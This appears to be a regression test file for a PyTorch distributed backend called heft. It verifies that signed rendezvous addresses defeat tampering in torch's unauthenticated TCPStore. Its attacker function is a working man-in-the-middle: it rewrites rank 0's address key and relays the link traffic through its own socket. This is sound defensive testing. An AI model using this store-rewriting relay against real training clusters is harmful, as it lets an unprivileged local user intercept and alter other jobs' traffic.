# ctest-labels: multiproc
"""Backend heft under torch's env:// rendezvous, whose TCPStore authenticates nobody: a local
user of another uid (here: a process that drops to uid 65534 once connected) rewrites rank 0's
link address to a relay of its own, as the first probe did to splice into the rank 1 <-> rank 0
link and rewrite gradients. Under `heft run`/`heft train` (HEFT_TOKEN set) the address is
signed with the job token: the rank that reads it refuses it naming the key, no rank computes,
both exit non-zero. Without HEFT_TOKEN (plain torchrun) heft says once, on stderr, what the run
is exposed to. The job's HEFT_TIMEOUT reaches the groups torch creates with its default
timeout.

The same file is the worker (`link_security_test.py worker`) and the attacker
(`link_security_test.py attacker HOST PORT FLAG`).
"""
import datetime
import os
import re
import socket
import sys
import tempfile
import threading
import time
import unittest

import support

TOKEN = "a-job-token-of-64-hex-" + "0" * 42
NOBODY = 65534


class LinkSecurity(unittest.TestCase):
    def test_a_rewritten_address_in_torchs_store_is_refused(self):
        with tempfile.TemporaryDirectory() as d:
            os.chmod(d, 0o777)  # the attacker's uid leaves its flag here
            flag = os.path.join(d, "attacked")
            port = support.free_port()
            env = support.clean_env(MASTER_ADDR="127.0.0.1", MASTER_PORT=str(port))
            attacker = support.subprocess.Popen(
                [support.PYTHON, "-u", os.path.abspath(__file__), "attacker", "127.0.0.1",
                 str(port), flag], env=env, stdout=support.subprocess.PIPE,
                stderr=support.subprocess.STDOUT, text=True)
            try:
                results = support.run_ranks(
                    2, [support.PYTHON, "-u", os.path.abspath(__file__), "worker"], timeout=120,
                    env_of_rank=lambda r: {"HEFT_TOKEN": TOKEN, "HEFT_TIMEOUT": "10",
                                           "WAIT_FOR": flag,
                                           "MASTER_PORT": str(port)})
            finally:
                attacker.kill()
                attack_log = attacker.communicate()[0]
            text = support.describe(results) + "\n--- attacker\n" + attack_log
            self.assertIn("rewrote", attack_log, text)
            self.assertTrue(all(rc not in (0, None) for rc, _, _ in results), text)
            for _, out, _ in results:
                self.assertNotIn("sum=", out, text)
            self.assertRegex(results[1][2], r"store key '[^']*/tcp/0': its value is not signed "
                                            r"with the job token", text)
            self.assertNotIn("relay accepted", attack_log, text)  # nobody dialled the relay

    def test_without_a_token_heft_says_once_what_the_run_is_exposed_to(self):
        results = support.run_ranks(
            2, [support.PYTHON, "-u", os.path.abspath(__file__), "worker"], timeout=120,
            env_of_rank=lambda r: {"HEFT_TOKEN": "", "WAIT_FOR": "", "SUBGROUP": "1"})
        text = support.describe(results)
        self.assertTrue(all(rc == 0 for rc, _, _ in results), text)
        for rc, out, err in results:
            self.assertIn("sum=1.0", out, text)
            self.assertEqual(err.count("HEFT_TOKEN is not set"), 1, text)

    def test_the_jobs_timeout_reaches_torchs_default_groups(self):
        # Rank 1 never joins the allreduce: rank 0 fails at HEFT_TIMEOUT (4 s), not torch's 30 min.
        results = support.run_ranks(
            2, [support.PYTHON, "-u", os.path.abspath(__file__), "worker"], timeout=90,
            env_of_rank=lambda r: {"HEFT_TOKEN": TOKEN, "HEFT_TIMEOUT": "4", "WAIT_FOR": "",
                                   "SKIP_ALLREDUCE": "1" if r == 1 else ""})
        text = support.describe(results)
        rc, out, err = results[0]
        self.assertNotIn(rc, (0, None), text)
        m = re.search(r"failed after ([0-9.]+) s", out + err)
        self.assertIsNotNone(m, text)
        self.assertLess(float(m[1]), 60, text)


# ---- the worker: one rank ----

def worker():
    import torch
    import torch.distributed as dist
    import heft.torch  # noqa: F401

    flag = os.environ.get("WAIT_FOR")
    if not flag:
        dist.init_process_group("heft", init_method="env://")
    else:
        # env://'s own TCPStore, made as env:// makes it; this rank reads rank 0's link
        # address only once the attacker rewrote it (the probe won that race 4 times in 4;
        # the test does not leave it to chance).
        class ReadsTheAddressLate(dist.Store):
            def __init__(self, inner):
                super().__init__()
                self.inner = inner

            def set(self, key, value):
                self.inner.set(key, value)

            def get(self, key):
                while key.endswith("/tcp/0") and not os.path.exists(flag):
                    time.sleep(0.05)
                return self.inner.get(key)

            def add(self, key, value):
                return self.inner.add(key, value)

            def check(self, keys):
                return self.inner.check(keys)

            def delete_key(self, key):
                return self.inner.delete_key(key)

            def wait(self, keys, timeout=None):
                return self.inner.wait(keys) if timeout is None else self.inner.wait(keys, timeout)

            def num_keys(self):
                return self.inner.num_keys()

            def set_timeout(self, timeout):
                self.inner.set_timeout(timeout)

        rank, world = int(os.environ["RANK"]), int(os.environ["WORLD_SIZE"])
        tcp = dist.TCPStore(os.environ["MASTER_ADDR"], int(os.environ["MASTER_PORT"]), world,
                            is_master=rank == 0, timeout=datetime.timedelta(seconds=60))
        dist.init_process_group("heft", store=ReadsTheAddressLate(tcp), rank=rank,
                                world_size=world)
    if os.environ.get("SUBGROUP"):
        dist.new_group([0, 1])  # a second group: still one warning
    x = torch.tensor([float(dist.get_rank())])
    if os.environ.get("SKIP_ALLREDUCE"):
        time.sleep(30)
        os._exit(0)
    start = time.monotonic()
    try:
        dist.all_reduce(x)
    except RuntimeError as e:
        print(f"allreduce failed after {time.monotonic() - start:.1f} s: {e}", flush=True)
        os._exit(1)
    print(f"sum={x.item()}", flush=True)
    dist.destroy_process_group()


# ---- the attacker: a TCPStore client that drops to uid 65534, then relays ----

def attacker(host, port, flag):
    import torch.distributed as dist

    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    key, store = None, None
    while key is None:
        try:
            # A client that connected before rank 0's store was up may be reset: connect again.
            store = store or dist.TCPStore(host, int(port), is_master=False,
                                           timeout=datetime.timedelta(seconds=60))
            key = next((k for k in store.list_keys()
                        if re.search(r"torch-[0-9a-f]+/tcp/0$", k)), None)
        except dist.DistError:
            store = None
        time.sleep(0.01)
    real = store.get(key)
    real_host, real_port = re.match(rb"([0-9.]+):([0-9]+)", real).groups()
    relay = socket.socket()
    relay.bind(("127.0.0.1", 0))
    relay.listen(8)
    store.set(key, f"127.0.0.1:{relay.getsockname()[1]}")
    print(f"rewrote {key}", flush=True)
    open(flag, "w").close()
    relayed = [0]

    def pump(a, b):
        try:
            while data := a.recv(65536):
                relayed[0] += len(data)
                b.sendall(data)
        except OSError:
            pass

    relay.settimeout(30)
    try:
        while True:
            c, _ = relay.accept()
            print("relay accepted a connection", flush=True)
            up = socket.create_connection((real_host.decode(), int(real_port)))
            threading.Thread(target=pump, args=(c, up), daemon=True).start()
            threading.Thread(target=pump, args=(up, c), daemon=True).start()
    except OSError:
        pass
    print(f"relayed {relayed[0]} bytes", flush=True)


if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] == "worker":
        worker()
    elif len(sys.argv) > 1 and sys.argv[1] == "attacker":
        attacker(*sys.argv[2:5])
    else:
        support.main_guard()
        unittest.main()
